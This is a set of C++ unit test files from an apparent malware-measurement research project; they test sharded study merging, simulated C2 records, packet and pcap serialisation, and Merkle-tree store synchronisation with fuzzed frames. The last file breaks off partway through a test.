  EXPECT_EQ(run_sharded(base, 1, 4), expect);
}

TEST(ParallelStudy, DeterministicAcrossWorkerCounts) {
  const auto base = small_config();
  const auto serial = run_sharded(base, 4, 1);
  const auto contended = run_sharded(base, 4, 8);
  EXPECT_EQ(serial, contended) << "output depends on thread scheduling";
}

TEST(ParallelStudy, MergedResultsFeedTheReportModule) {
  ParallelStudyConfig cfg;
  cfg.base = small_config();
  cfg.shards = 4;
  const auto merged = ParallelStudy(cfg).run();

  // Shards cover every sample slot exactly once.
  EXPECT_EQ(merged.d_samples.size(), 120u);
  std::set<std::string> shas;
  for (const auto& s : merged.d_samples) {
    EXPECT_TRUE(shas.insert(s.sha256).second) << "duplicate analysis record";
  }
  for (const auto& [addr, rec] : merged.d_c2s) {
    EXPECT_EQ(addr, rec.address);
    EXPECT_GE(rec.distinct_samples, 1);
  }
  EXPECT_GT(merged.sim_events, 0u);
  EXPECT_GT(merged.sandbox_runs, 0u);

  const auto table1 = report::table1_datasets(merged);
  EXPECT_NE(table1.find("D-Samples"), std::string::npos);
  EXPECT_NE(report::table3_ti_miss(merged), "");

  // Merged datasets round-trip through the MDS artifact like any other.
  const auto bytes = report::serialize_datasets(merged);
  const auto reloaded = report::parse_datasets(bytes);
  ASSERT_TRUE(reloaded.has_value());
  EXPECT_EQ(report::serialize_datasets(*reloaded), bytes);
}

TEST(ParallelStudy, RunIsSingleShot) {
  ParallelStudyConfig cfg;
  cfg.base = small_config(40);
  ParallelStudy study(cfg);
  (void)study.run();
  EXPECT_THROW((void)study.run(), std::logic_error);
}

TEST(MergeStudyResults, C2CollisionsMergeDeterministically) {
  StudyResults a, b;
  C2Record ra;
  ra.address = "60.1.2.3";
  ra.discovery_day = 5;
  ra.referred_days = {5, 9};
  ra.live_days = {5};
  ra.distinct_samples = 2;
  ra.vt_vendors_same_day = 1;
  ra.vt_malicious_same_day = true;
  C2Record rb;
  rb.address = "60.1.2.3";
  rb.discovery_day = 3;
  rb.referred_days = {3, 5};
  rb.live_days = {3};
  rb.distinct_samples = 1;
  rb.asn = 4134;
  rb.vt_malicious_requery = true;
  a.d_c2s["60.1.2.3"] = ra;
  b.d_c2s["60.1.2.3"] = rb;

  std::vector<StudyResults> parts;
  parts.push_back(std::move(a));
  parts.push_back(std::move(b));
  const auto merged = merge_study_results(std::move(parts));
  ASSERT_EQ(merged.d_c2s.size(), 1u);
  const auto& rec = merged.d_c2s.at("60.1.2.3");
  EXPECT_EQ(rec.discovery_day, 3);  // earlier discovery owns identity
  EXPECT_EQ(rec.asn, 4134u);
  EXPECT_EQ(rec.referred_days, (std::vector<std::int64_t>{3, 5, 9}));
  EXPECT_EQ(rec.live_days, (std::vector<std::int64_t>{3, 5}));
  EXPECT_EQ(rec.distinct_samples, 3);
  EXPECT_TRUE(rec.vt_malicious_same_day);
  EXPECT_TRUE(rec.vt_malicious_requery);
}
