// net: addresses, packets, wire serialization, checksums, pcap.
#include <gtest/gtest.h>

#include "net/checksum.hpp"
#include "net/ipv4.hpp"
#include "net/packet.hpp"
#include "net/pcap.hpp"

using namespace malnet;
using namespace malnet::net;

TEST(Ipv4, ParseAndFormat) {
  const auto ip = parse_ipv4("192.168.1.200");
  ASSERT_TRUE(ip);
  EXPECT_EQ(to_string(*ip), "192.168.1.200");
  EXPECT_EQ(ip->octet(0), 192);
  EXPECT_EQ(ip->octet(3), 200);
}

TEST(Ipv4, RejectsMalformed) {
  EXPECT_FALSE(parse_ipv4("1.2.3"));
  EXPECT_FALSE(parse_ipv4("1.2.3.4.5"));
  EXPECT_FALSE(parse_ipv4("1.2.3.256"));
  EXPECT_FALSE(parse_ipv4("a.b.c.d"));
  EXPECT_FALSE(parse_ipv4(""));
}

TEST(Subnet, ContainsAndHost) {
  const auto s = parse_subnet("10.20.0.0/16");
  ASSERT_TRUE(s);
  EXPECT_TRUE(s->contains(Ipv4{10, 20, 255, 1}));
  EXPECT_FALSE(s->contains(Ipv4{10, 21, 0, 1}));
  EXPECT_EQ(s->size(), 65536u);
  EXPECT_EQ(to_string(s->host(258)), "10.20.1.2");
}

TEST(Subnet, Slash32AndSlash0) {
  const Subnet host{Ipv4{1, 2, 3, 4}, 32};
  EXPECT_TRUE(host.contains(Ipv4{1, 2, 3, 4}));
  EXPECT_FALSE(host.contains(Ipv4{1, 2, 3, 5}));
  const Subnet all{Ipv4{0, 0, 0, 0}, 0};
  EXPECT_TRUE(all.contains(Ipv4{255, 255, 255, 255}));
}

TEST(Endpoint, ParseAndOrder) {
  const auto e = parse_endpoint("1.2.3.4:8080");
  ASSERT_TRUE(e);
  EXPECT_EQ(e->port, 8080);
  EXPECT_FALSE(parse_endpoint("1.2.3.4"));
  EXPECT_FALSE(parse_endpoint("1.2.3.4:99999"));
  EXPECT_LT((Endpoint{Ipv4{1, 0, 0, 1}, 5}), (Endpoint{Ipv4{1, 0, 0, 2}, 1}));
}

namespace {
Packet make_tcp() {
  Packet p;
  p.src = Ipv4{10, 0, 0, 1};
  p.dst = Ipv4{10, 0, 0, 2};
  p.proto = Protocol::kTcp;
  p.src_port = 49152;
  p.dst_port = 23;
  p.flags.syn = true;
  p.seq = 0xCAFEBABE;
  p.payload = util::to_bytes("data");
  return p;
}
}  // namespace

TEST(Wire, TcpRoundTrip) {
  const Packet p = make_tcp();
  const auto wire = to_wire(p);
  const auto q = from_wire(wire);
  ASSERT_TRUE(q);
  EXPECT_EQ(q->src, p.src);
  EXPECT_EQ(q->dst, p.dst);
  EXPECT_EQ(q->proto, Protocol::kTcp);
  EXPECT_EQ(q->src_port, p.src_port);
  EXPECT_EQ(q->dst_port, p.dst_port);
  EXPECT_TRUE(q->flags.syn);
  EXPECT_FALSE(q->flags.ack);
  EXPECT_EQ(q->seq, p.seq);
  EXPECT_EQ(q->payload, p.payload);
}

TEST(Wire, UdpRoundTrip) {
  Packet p;
  p.src = Ipv4{1, 1, 1, 1};
  p.dst = Ipv4{8, 8, 8, 8};
  p.proto = Protocol::kUdp;
  p.src_port = 5353;
  p.dst_port = 53;
  p.payload = util::from_hex("00ff10");
  const auto q = from_wire(to_wire(p));
  ASSERT_TRUE(q);
  EXPECT_EQ(q->proto, Protocol::kUdp);
  EXPECT_EQ(q->payload, p.payload);
}

TEST(Wire, IcmpRoundTrip) {
  Packet p;
  p.src = Ipv4{1, 1, 1, 1};
  p.dst = Ipv4{2, 2, 2, 2};
  p.proto = Protocol::kIcmp;
  p.icmp = {3, 3};  // BLACKNURSE shape
  p.payload = util::Bytes(28, 0);
  const auto q = from_wire(to_wire(p));
  ASSERT_TRUE(q);
  EXPECT_EQ(q->icmp.type, 3);
  EXPECT_EQ(q->icmp.code, 3);
  EXPECT_EQ(q->payload.size(), 28u);
}

TEST(Wire, Ipv4HeaderChecksumIsValid) {
  const auto wire = to_wire(make_tcp());
  // Checksumming a header including its checksum field must yield 0.
  EXPECT_EQ(inet_checksum(util::BytesView{wire.data(), 20}), 0);
}

TEST(Wire, RejectsTruncatedAndJunk) {
  EXPECT_FALSE(from_wire(util::Bytes{}));
  EXPECT_FALSE(from_wire(util::from_hex("45")));
  auto wire = to_wire(make_tcp());
  wire[0] = 0x65;  // IPv6-ish version nibble
  EXPECT_FALSE(from_wire(wire));
}

TEST(Wire, RejectsUnsupportedProtocol) {
  auto wire = to_wire(make_tcp());
  wire[9] = 47;  // GRE
  EXPECT_FALSE(from_wire(wire));
}

TEST(TcpFlags, ByteRoundTrip) {
  for (int b = 0; b < 32; ++b) {
    const auto f = TcpFlags::from_byte(static_cast<std::uint8_t>(b));
    EXPECT_EQ(f.to_byte(), b);
  }
  TcpFlags f;
  f.syn = f.ack = true;
  EXPECT_EQ(f.to_string(), "SA");
}

TEST(FlowKey, CanonicalAcrossDirections) {
  Packet fwd = make_tcp();
  Packet rev = fwd;
  std::swap(rev.src, rev.dst);
  std::swap(rev.src_port, rev.dst_port);
  EXPECT_EQ(FlowKey::of(fwd), FlowKey::of(rev));
}

TEST(Checksum, KnownVector) {
  // RFC 1071 example bytes.
  const auto data = util::from_hex("0001 f203 f4f5 f6f7");
  EXPECT_EQ(inet_checksum(data), 0xFFFF - ((0x0001 + 0xf203 + 0xf4f5 + 0xf6f7) % 0xFFFF));
}

TEST(Pcap, RoundTripPreservesPacketsAndTimes) {
  PcapWriter w;
  Packet p = make_tcp();
  p.time = util::SimTime{3'000'123};
  w.add(p);
  Packet u;
  u.src = Ipv4{9, 9, 9, 9};
  u.dst = Ipv4{7, 7, 7, 7};
  u.proto = Protocol::kUdp;
  u.dst_port = 53;
  u.time = util::SimTime{5'500'000};
  w.add(u);
  EXPECT_EQ(w.packet_count(), 2u);

  const auto packets = read_pcap(w.bytes());
  ASSERT_EQ(packets.size(), 2u);
  EXPECT_EQ(packets[0].time.us, 3'000'123);
  EXPECT_EQ(packets[0].dst_port, 23);
  EXPECT_EQ(packets[1].time.us, 5'500'000);
  EXPECT_EQ(packets[1].proto, Protocol::kUdp);
}

TEST(Pcap, FileSaveAndLoad) {
  PcapWriter w;
  w.add(make_tcp());
  const std::string path = ::testing::TempDir() + "/malnet_test.pcap";
  w.save(path);
  const auto packets = load_pcap(path);
  ASSERT_EQ(packets.size(), 1u);
  EXPECT_EQ(packets[0].dst_port, 23);
}

TEST(Pcap, RejectsBadMagic) {
  auto bytes = util::from_hex("deadbeef");
  EXPECT_THROW((void)read_pcap(bytes), util::TruncatedInput);
}
