// malnet::sync — hash-tree replication of content-addressed stores
// (DESIGN.md §14).
//
// The load-bearing contracts (ISSUE 7): after any interleaving of syncs
// from N producers, compact() converges every replica to byte-identical
// merged artifacts; a re-sync against an up-to-date peer transfers zero
// segments; no fuzzed MSY1 frame — however malformed — can crash the
// server, wedge a connection, or commit a segment whose content hash does
// not verify; a sync over a flaky link either converges on retry or fails
// cleanly with the manifest untouched; and the store's orphan GC never
// collects what a live writer is mid-way through publishing.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <poll.h>
#include <sys/file.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <memory>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "core/parallel_study.hpp"
#include "obs/json.hpp"
#include "obs/trace.hpp"
#include "fault/fault.hpp"
#include "serve/server.hpp"
#include "serve/wire.hpp"
#include "store/merkle.hpp"
#include "store/segment.hpp"
#include "store/store.hpp"
#include "sync/client.hpp"
#include "sync/session.hpp"
#include "sync/wire.hpp"
#include "testkit/check.hpp"
#include "testkit/corpus.hpp"
#include "testkit/gen.hpp"
#include "testkit/mutate.hpp"
#include "util/rng.hpp"
#include "util/socket.hpp"

using namespace malnet;
using testkit::CheckConfig;
namespace fs = std::filesystem;

namespace {

constexpr const char* kHexDigits = "0123456789abcdef";

/// Three small producer stores with pairwise-distinct studies (building
/// each runs a real two-shard study; do it once per binary).
const std::vector<std::string>& producer_dirs() {
  static const std::vector<std::string> kDirs = [] {
    std::vector<std::string> dirs;
    for (int i = 0; i < 3; ++i) {
      const auto dir =
          ::testing::TempDir() + "/sync_producer_" + std::to_string(i);
      fs::remove_all(dir);
      core::ParallelStudyConfig cfg;
      cfg.base.seed = 31 + static_cast<std::uint64_t>(i);
      cfg.base.world.total_samples = 24;
      cfg.base.run_probe_campaign = false;
      cfg.shards = 2;
      cfg.jobs = 2;
      store::Store st(dir);
      (void)store::run_store_study(cfg, st, /*resume=*/false);
      dirs.push_back(dir);
    }
    return dirs;
  }();
  return kDirs;
}

/// Every producer segment's raw bytes, sorted by content hash (the
/// canonical order import_segment-based references use).
const std::vector<util::Bytes>& all_producer_segments() {
  static const std::vector<util::Bytes> kSegments = [] {
    std::vector<std::pair<std::string, util::Bytes>> entries;
    for (const auto& dir : producer_dirs()) {
      store::Store st(dir);
      for (const auto& hash : st.segment_hashes()) {
        auto bytes = st.read_segment_bytes(hash);
        entries.emplace_back(hash, std::move(*bytes));
      }
    }
    std::sort(entries.begin(), entries.end(),
              [](const auto& a, const auto& b) { return a.first < b.first; });
    std::vector<util::Bytes> out;
    for (auto& [hash, bytes] : entries) out.push_back(std::move(bytes));
    return out;
  }();
  return kSegments;
}

std::string slurp(const fs::path& path) {
  std::ifstream f(path, std::ios::binary);
  std::ostringstream s;
  s << f.rdbuf();
  return s.str();
}

/// Full on-disk identity of a store: MANIFEST plus every segment file, by
/// name. Two stores with equal snapshots are byte-identical artifacts.
std::string store_snapshot(const std::string& dir) {
  std::ostringstream out;
  out << "MANIFEST\n" << slurp(dir + "/MANIFEST");
  std::vector<fs::path> files;
  for (const auto& entry : fs::directory_iterator(dir + "/segments")) {
    files.push_back(entry.path());
  }
  std::sort(files.begin(), files.end());
  for (const auto& p : files) {
    out << p.filename().string() << '\n' << slurp(p);
  }
  return out.str();
}

/// Ground truth for convergence: every producer segment imported directly
/// (no network) in canonical hash order, then compacted.
const std::string& reference_snapshot() {
  static const std::string kSnapshot = [] {
    const auto dir = ::testing::TempDir() + "/sync_reference";
    fs::remove_all(dir);
    {
      store::Store st(dir);
      for (const auto& bytes : all_producer_segments()) {
        (void)st.import_segment(util::BytesView{bytes});
      }
      (void)st.compact();
    }
    return store_snapshot(dir);
  }();
  return kSnapshot;
}

std::uint64_t counter_value(const obs::MetricsSnapshot& snap,
                            const std::string& name) {
  const auto it = snap.counters.find(name);
  return it == snap.counters.end() ? 0 : it->second;
}

/// A started sync-enabled server over a fresh Store handle on `dir` — the
/// library-level equivalent of `malnetctl serve --allow-sync`.
struct SyncServer {
  std::unique_ptr<store::Store> store;
  obs::Registry registry;
  std::unique_ptr<sync::SessionHandler> handler;
  std::unique_ptr<serve::Server> server;

  explicit SyncServer(const std::string& dir, serve::ServeConfig cfg = {}) {
    store = std::make_unique<store::Store>(dir);
    handler = std::make_unique<sync::SessionHandler>(*store, registry);
    cfg.host = "127.0.0.1";
    cfg.port = 0;
    if (cfg.io_threads == 0) cfg.io_threads = 2;
    cfg.aux_handler = [h = handler.get()](util::BytesView body,
                                          const serve::AuxContext& ctx) {
      return h->handle(body, ctx.peer);
    };
    cfg.max_aux_frame_body = sync::kMaxSyncFrameBody;
    server = std::make_unique<serve::Server>(*store, cfg, registry);
    server->start();
  }

  [[nodiscard]] std::uint16_t port() const { return server->port(); }
};

/// Opens the producer store at `dir` and pushes it to `port`.
std::optional<sync::SyncStats> push_store(const std::string& dir,
                                          std::uint16_t port,
                                          serve::ClientOptions opts = {}) {
  store::Store st(dir);
  sync::SyncClient client(st);
  if (!client.connect("127.0.0.1", port, opts)) return std::nullopt;
  return client.push();
}

std::vector<std::string> random_hashes(util::Rng& rng, std::size_t n) {
  std::vector<std::string> out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    util::Bytes blob(8);
    for (auto& b : blob) b = static_cast<std::uint8_t>(rng.uniform(0, 255));
    out.push_back(store::content_hash(util::BytesView{blob}));
  }
  return out;
}

std::vector<std::string> concat(std::vector<std::string> a,
                                const std::vector<std::string>& b) {
  a.insert(a.end(), b.begin(), b.end());
  return a;
}

/// Test-side reimplementation of the refinement walk, deliberately simpler
/// than SyncClient's: descend only into differing subtrees, enumerate once
/// a subtree is small. Collects members of `want` that `have` lacks.
void collect_missing(const store::SegmentSet& have,
                     const store::SegmentSet& want, const std::string& prefix,
                     std::vector<std::string>& out) {
  const auto h = have.summarize(prefix);
  const auto w = want.summarize(prefix);
  if (h.hash == w.hash) return;  // node-hash equality is set equality
  if (w.count == 0) return;
  if (h.count == 0 || w.count <= 4 || prefix.size() == store::kHashHexLen) {
    for (const auto& member : want.under(prefix)) {
      if (!have.contains(member)) out.push_back(member);
    }
    return;
  }
  for (const auto& child : w.children) {
    collect_missing(have, want, prefix + kHexDigits[child.digit], out);
  }
}

std::vector<std::string> brute_force_missing(const store::SegmentSet& have,
                                             const store::SegmentSet& want) {
  std::vector<std::string> out;
  std::set_difference(want.hashes().begin(), want.hashes().end(),
                      have.hashes().begin(), have.hashes().end(),
                      std::back_inserter(out));
  return out;
}

}  // namespace

// --- Merkle summaries --------------------------------------------------------

TEST(Merkle, SummarizeMatchesBruteForceAtEveryPrefix) {
  CheckConfig cfg;
  cfg.cases = 40;
  cfg.name = "summarize vs brute force";
  const auto r = testkit::check(
      testkit::ints<std::uint64_t>(1, 1'000'000'000'000ULL),
      [](std::uint64_t seed) {
        util::Rng rng(seed, 5);
        const store::SegmentSet set(
            random_hashes(rng, rng.uniform(0, 50)));
        std::vector<std::string> prefixes = {""};
        for (int i = 0; i < 6; ++i) {
          std::string p;
          for (std::uint64_t d = 0, len = rng.uniform(1, 3); d < len; ++d) {
            p += kHexDigits[rng.uniform(0, 15)];
          }
          prefixes.push_back(p);
        }
        if (set.size() > 0) {  // a prefix that definitely has members
          prefixes.push_back(set.hashes().front().substr(0, 2));
        }
        for (const auto& prefix : prefixes) {
          const auto members = set.under(prefix);
          const auto node = set.summarize(prefix);
          if (node.count != members.size()) return false;
          if (node.hash !=
              store::set_hash(members.data(), members.data() + members.size())) {
            return false;
          }
          std::uint64_t child_total = 0;
          int last_digit = -1;
          for (const auto& child : node.children) {
            if (static_cast<int>(child.digit) <= last_digit) return false;
            last_digit = child.digit;
            const auto sub = set.under(prefix + kHexDigits[child.digit]);
            if (child.count != sub.size() || child.count == 0) return false;
            if (child.hash !=
                store::set_hash(sub.data(), sub.data() + sub.size())) {
              return false;
            }
            child_total += child.count;
          }
          if (prefix.size() < store::kHashHexLen && child_total != node.count) {
            return false;
          }
        }
        return true;
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(Merkle, RefinementWalkFindsExactlyTheSetDifference) {
  CheckConfig cfg;
  cfg.cases = 40;
  cfg.name = "refinement diff";
  const auto r = testkit::check(
      testkit::ints<std::uint64_t>(1, 1'000'000'000'000ULL),
      [](std::uint64_t seed) {
        util::Rng rng(seed, 9);
        const auto common = random_hashes(rng, rng.uniform(0, 40));
        const auto only_a = random_hashes(rng, rng.uniform(0, 20));
        const auto only_b = random_hashes(rng, rng.uniform(0, 20));
        const store::SegmentSet a(concat(common, only_a));
        const store::SegmentSet b(concat(common, only_b));
        const auto walk_matches = [](const store::SegmentSet& have,
                                     const store::SegmentSet& want) {
          std::vector<std::string> walked;
          collect_missing(have, want, "", walked);
          std::sort(walked.begin(), walked.end());
          return walked == brute_force_missing(have, want);
        };
        return walk_matches(a, b) && walk_matches(b, a);
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(Merkle, SummaryIsAPureFunctionOfTheSet) {
  util::Rng rng(22);
  auto hashes = random_hashes(rng, 30);
  const store::SegmentSet original(hashes);
  // Shuffle and duplicate the input: same set, so same summary.
  rng.shuffle(hashes);
  auto doubled = concat(hashes, hashes);
  const store::SegmentSet shuffled(doubled);
  EXPECT_EQ(original.summarize(""), shuffled.summarize(""));
  // One extra member must change the root hash.
  const store::SegmentSet grown(concat(hashes, random_hashes(rng, 1)));
  EXPECT_NE(original.summarize("").hash, grown.summarize("").hash);
  // The empty set has a well-defined summary with no children.
  const store::SegmentSet empty(std::vector<std::string>{});
  EXPECT_EQ(empty.summarize("").count, 0u);
  EXPECT_TRUE(empty.summarize("").children.empty());
}

TEST(Merkle, SegmentSetValidatesItsInput) {
  EXPECT_THROW((void)store::SegmentSet({"nothex"}), std::invalid_argument);
  EXPECT_THROW((void)store::SegmentSet({std::string(64, 'G')}),
               std::invalid_argument);
  const store::SegmentSet set({std::string(64, 'a')});
  EXPECT_TRUE(set.under("xyz").empty());                   // non-hex prefix
  EXPECT_TRUE(set.under(std::string(65, 'a')).empty());    // over-long prefix
  EXPECT_EQ(set.under("aa").size(), 1u);
}

// --- Wire codec --------------------------------------------------------------

TEST(SyncWire, RequestAndResponseRoundTrip) {
  const sync::SyncRequest req{77, sync::SyncOp::kGet,
                              util::to_bytes("payload-bytes")};
  serve::FrameReader reader(sync::kMaxSyncFrameBody);
  reader.feed(sync::encode_sync_request(req));
  auto body = reader.next();
  ASSERT_TRUE(body.has_value());
  const auto decoded = sync::decode_sync_request(*body);
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, req);

  const sync::SyncResponse resp{77, sync::SyncStatus::kError, sync::SyncOp::kGet,
                                util::to_bytes("err unknown segment")};
  reader.feed(sync::encode_sync_response(resp));
  body = reader.next();
  ASSERT_TRUE(body.has_value());
  const auto decoded_resp = sync::decode_sync_response(*body);
  ASSERT_TRUE(decoded_resp.has_value());
  EXPECT_EQ(*decoded_resp, resp);
}

TEST(SyncWire, DecodeRejectsBadMagicOpAndStatus) {
  EXPECT_FALSE(sync::decode_sync_request(util::Bytes{1, 2, 3}).has_value());
  EXPECT_FALSE(sync::decode_sync_response(util::Bytes{1, 2, 3}).has_value());

  auto frame = sync::encode_sync_request({1, sync::SyncOp::kHello, {}});
  util::Bytes body(frame.begin() + serve::kFramePrefixSize, frame.end());
  body[0] ^= 0xFF;  // corrupt the magic
  EXPECT_FALSE(sync::decode_sync_request(body).has_value());
  body[0] ^= 0xFF;
  body[12] = 5;  // first invalid op
  EXPECT_FALSE(sync::decode_sync_request(body).has_value());

  auto rframe = sync::encode_sync_response(
      {1, sync::SyncStatus::kOk, sync::SyncOp::kHello, {}});
  util::Bytes rbody(rframe.begin() + serve::kFramePrefixSize, rframe.end());
  rbody[12] = 2;  // first invalid status
  EXPECT_FALSE(sync::decode_sync_response(rbody).has_value());
}

TEST(SyncWire, NodeSummaryRoundTripAndValidation) {
  util::Rng rng(7);
  const store::SegmentSet set(random_hashes(rng, 25));
  for (const std::string prefix : {"", "0", "a", "ff"}) {
    const auto node = set.summarize(prefix);
    const auto decoded =
        sync::decode_node_summary(util::BytesView{sync::encode_node_summary(node)});
    ASSERT_TRUE(decoded.has_value()) << "prefix '" << prefix << "'";
    EXPECT_EQ(*decoded, node);
  }

  // Children out of order, counts not summing, trailing bytes: all rejected.
  auto node = set.summarize("");
  ASSERT_GE(node.children.size(), 2u);
  std::swap(node.children[0], node.children[1]);
  EXPECT_FALSE(
      sync::decode_node_summary(util::BytesView{sync::encode_node_summary(node)})
          .has_value());
  std::swap(node.children[0], node.children[1]);
  node.children[0].count += 1;
  EXPECT_FALSE(
      sync::decode_node_summary(util::BytesView{sync::encode_node_summary(node)})
          .has_value());
  node.children[0].count -= 1;
  auto payload = sync::encode_node_summary(node);
  payload.push_back(0);
  EXPECT_FALSE(sync::decode_node_summary(util::BytesView{payload}).has_value());
}

TEST(SyncWire, HashListRoundTripAndValidation) {
  util::Rng rng(8);
  auto hashes = random_hashes(rng, 12);
  std::sort(hashes.begin(), hashes.end());
  const auto decoded =
      sync::decode_hash_list(util::BytesView{sync::encode_hash_list(hashes)});
  ASSERT_TRUE(decoded.has_value());
  EXPECT_EQ(*decoded, hashes);

  auto unsorted = hashes;
  std::swap(unsorted.front(), unsorted.back());
  EXPECT_FALSE(
      sync::decode_hash_list(util::BytesView{sync::encode_hash_list(unsorted)})
          .has_value());
  auto duplicated = hashes;
  duplicated.push_back(duplicated.back());
  EXPECT_FALSE(
      sync::decode_hash_list(util::BytesView{sync::encode_hash_list(duplicated)})
          .has_value());
  // A count that cannot fit the remaining payload is malformed, not an
  // allocation request.
  util::ByteWriter w;
  w.u32(0xFFFFFFFF);
  EXPECT_FALSE(sync::decode_hash_list(util::BytesView{w.take()}).has_value());
}

TEST(SyncWire, FuzzedPayloadDecodersAreCanonical) {
  // decode enforces full consumption + validation, so decode success must
  // imply byte-exact re-encoding — no two wire forms for one value.
  util::Rng rng(22);
  const store::SegmentSet set(random_hashes(rng, 20));
  std::vector<util::Bytes> corpus = {
      sync::encode_node_summary(set.summarize("")),
      sync::encode_node_summary(set.summarize("a")),
      sync::encode_hash_list(set.hashes()),
      sync::encode_hash_list({}),
  };
  int cases = 300;
  if (const char* env = std::getenv("MALNET_FUZZ_CASES")) {
    cases = std::min(std::atoi(env), 2000);
  }
  testkit::Mutator mutator;
  for (int i = 0; i < cases; ++i) {
    const auto& base = corpus[rng.uniform(0, corpus.size() - 1)];
    const auto mutant = mutator.mutate(base, rng);
    if (const auto node = sync::decode_node_summary(util::BytesView{mutant})) {
      EXPECT_EQ(sync::encode_node_summary(*node), mutant);
    }
    if (const auto list = sync::decode_hash_list(util::BytesView{mutant})) {
      EXPECT_EQ(sync::encode_hash_list(*list), mutant);
    }
  }
}

// --- Convergence -------------------------------------------------------------

TEST(Sync, PushPermutationsConvergeByteIdentically) {
  std::vector<std::vector<int>> orders = {{0, 1, 2}, {0, 2, 1}, {1, 0, 2},
                                          {1, 2, 0}, {2, 0, 1}, {2, 1, 0}};
  std::vector<std::string> snapshots;
  for (const auto& order : orders) {
    std::string label;
    for (int i : order) label += static_cast<char>('0' + i);
    const auto dir = ::testing::TempDir() + "/sync_perm_" + label;
    fs::remove_all(dir);
    {
      SyncServer srv(dir);
      for (int i : order) {
        const auto stats = push_store(producer_dirs()[i], srv.port());
        ASSERT_TRUE(stats.has_value()) << "push " << i << " in order " << label;
        EXPECT_EQ(stats->segments_sent, 2u);
        EXPECT_EQ(stats->verify_failures, 0u);
      }
      EXPECT_EQ(counter_value(srv.registry.snapshot(), "sync.segments_imported"),
                6u);
      srv.server->stop();
    }
    {
      store::Store st(dir);
      ASSERT_EQ(st.segment_hashes().size(), 6u);
      (void)st.compact();
    }
    snapshots.push_back(store_snapshot(dir));
  }
  for (std::size_t i = 0; i < snapshots.size(); ++i) {
    EXPECT_EQ(snapshots[i], snapshots[0]) << "order " << i << " diverged";
  }
  // And the network path equals the no-network reference import.
  EXPECT_EQ(snapshots[0], reference_snapshot());
}

TEST(Sync, ResyncIsANoOp) {
  const auto dir = ::testing::TempDir() + "/sync_resync";
  fs::remove_all(dir);
  SyncServer srv(dir);
  for (const auto& producer : producer_dirs()) {
    ASSERT_TRUE(push_store(producer, srv.port()).has_value());
  }
  // Every producer re-pushes: refinement must discover there is nothing to
  // send and ship zero segments, spending only summary-sized frames.
  for (const auto& producer : producer_dirs()) {
    const auto stats = push_store(producer, srv.port());
    ASSERT_TRUE(stats.has_value());
    EXPECT_EQ(stats->segments_sent, 0u);
    EXPECT_LT(stats->bytes_on_wire, 8u * 1024u);
    EXPECT_GT(stats->bytes_saved, 0u);
  }
}

TEST(Sync, PullPopulatesAFreshReplica) {
  const auto src_dir = producer_dirs()[0];
  const auto dir = ::testing::TempDir() + "/sync_pull_replica";
  fs::remove_all(dir);
  SyncServer srv(src_dir);

  std::vector<std::string> expected;
  {
    store::Store src(src_dir);
    expected = src.segment_hashes();
  }
  {
    store::Store replica(dir);
    sync::SyncClient client(replica);
    ASSERT_TRUE(client.connect("127.0.0.1", srv.port()));
    const auto stats = client.pull();
    ASSERT_TRUE(stats.has_value());
    EXPECT_EQ(stats->segments_received, expected.size());
    EXPECT_EQ(replica.segment_hashes(), expected);

    // Identical stores: one HELLO round trip, nothing transferred.
    const auto again = client.pull();
    ASSERT_TRUE(again.has_value());
    EXPECT_EQ(again->segments_received, 0u);
    EXPECT_EQ(again->rounds, 1u);
    EXPECT_GT(again->bytes_saved, 0u);
  }
}

TEST(SyncProps, ImportOrderNeverChangesCompactedBytes) {
  // The aggregator-side half of convergence, swept over random segment
  // interleavings (whole-push permutations are covered above). Pinned case
  // count: each case imports + compacts a store, too heavy for the ambient
  // MALNET_FUZZ_CASES=2000 the CI fuzz smoke sets.
  CheckConfig cfg;
  cfg.cases = 12;
  cfg.env_overrides = false;
  cfg.name = "import-order invariance";
  const auto r = testkit::check(
      testkit::ints<std::uint64_t>(1, 1'000'000'000'000ULL),
      [](std::uint64_t seed) {
        auto order = all_producer_segments();
        util::Rng rng(seed, 3);
        rng.shuffle(order);
        const auto dir = ::testing::TempDir() + "/sync_order_case";
        fs::remove_all(dir);
        {
          store::Store st(dir);
          for (const auto& bytes : order) {
            (void)st.import_segment(util::BytesView{bytes});
          }
          (void)st.compact();
        }
        const bool converged = store_snapshot(dir) == reference_snapshot();
        fs::remove_all(dir);
        return converged;
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(Sync, ImportIsIdempotentAndGrowOnly) {
  const auto dir = ::testing::TempDir() + "/sync_import_semantics";
  fs::remove_all(dir);
  store::Store st(dir);
  const auto& segments = all_producer_segments();
  const auto first = st.import_segment(util::BytesView{segments[0]});
  EXPECT_TRUE(first.imported);
  const auto again = st.import_segment(util::BytesView{segments[0]});
  EXPECT_FALSE(again.imported);
  EXPECT_EQ(again.meta.hash, first.meta.hash);
  EXPECT_EQ(st.segment_hashes().size(), 1u);
  // Garbage is rejected before anything touches the manifest.
  EXPECT_THROW((void)st.import_segment(util::BytesView{util::Bytes(64, 0xAB)}),
               std::invalid_argument);
  EXPECT_EQ(st.segment_hashes().size(), 1u);
}

// --- Fuzzing the server ------------------------------------------------------

TEST(Sync, FuzzedSyncFramesNeverCorruptTheStore) {
  const auto dir = ::testing::TempDir() + "/sync_fuzz_target";
  fs::remove_all(dir);
  std::vector<std::string> preloaded;
  {
    store::Store st(dir);
    store::Store producer(producer_dirs()[0]);
    for (const auto& hash : producer.segment_hashes()) {
      (void)st.import_segment(util::BytesView{*producer.read_segment_bytes(hash)});
    }
    preloaded = st.segment_hashes();
  }

  serve::ServeConfig cfg;
  cfg.idle_timeout_ms = 150;  // reclaim connections parked on partial frames
  SyncServer srv(dir, cfg);

  // Corpus: the committed MSY1 seed entries plus frames aimed at real
  // fixture content, so GET/PUT mutants start from requests that reach the
  // read and import paths.
  auto corpus = testkit::corpus_inputs("sync_");
  ASSERT_GE(corpus.size(), 5u);
  {
    store::Store producer(producer_dirs()[1]);
    const auto hashes = producer.segment_hashes();
    util::ByteWriter get_req;
    get_req.lp16(preloaded.front());
    corpus.push_back(
